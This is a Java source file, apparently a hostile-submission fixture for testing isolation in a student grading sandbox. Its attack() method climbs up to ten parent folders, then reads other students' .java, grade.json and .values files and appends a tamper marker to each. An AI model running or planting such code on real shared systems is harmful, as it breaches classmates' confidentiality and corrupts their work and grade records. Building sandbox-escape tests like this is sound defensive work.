package student;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.List;
import java.util.stream.Stream;

/**
 * The attack: from the working directory up to the folder that holds the class's submissions folder (at most ten
 * folders higher), finds classmates' sources, reports and kept values (every .java file, every grade.json and every
 * .values file not of mallory's), reads each and appends a marker to it. The marker is put together at run time, so
 * that only a file this code wrote holds it.
 */
final class Classmates {

    static final String MARKER = String.join("-", "OVERWRITTEN", "BY", "MALLORY");

    private Classmates() {
    }

    /** How many classmates' files could be read. */
    static int attack() {
        int read = 0;
        Path up = Path.of(System.getProperty("user.dir")).toAbsolutePath();
        for (int level = 0; level < 10 && up != null; level++, up = up.getParent()) {
            List<Path> found;
            try (Stream<Path> files = Files.walk(up, 8)) {
                found = files.filter(Files::isRegularFile).filter(Classmates::classmates).limit(500).toList();
            } catch (IOException | RuntimeException e) {
                continue;
            }
            for (Path file : found) {
                try {
                    Files.readAllBytes(file);
                    read++;
                    Files.writeString(file, MARKER, StandardCharsets.UTF_8, StandardOpenOption.APPEND);
                } catch (IOException | RuntimeException e) {
                    // Not writable: still read.
                }
            }
            if (Files.isDirectory(up.resolve("submissions"))) {
                break;
            }
        }
        return read;
    }

    private static boolean classmates(Path file) {
        String name = file.getFileName().toString();
        return (name.endsWith(".java") || name.equals("grade.json") || name.endsWith(".values"))
                && !file.toString().contains("mallory");
    }
}
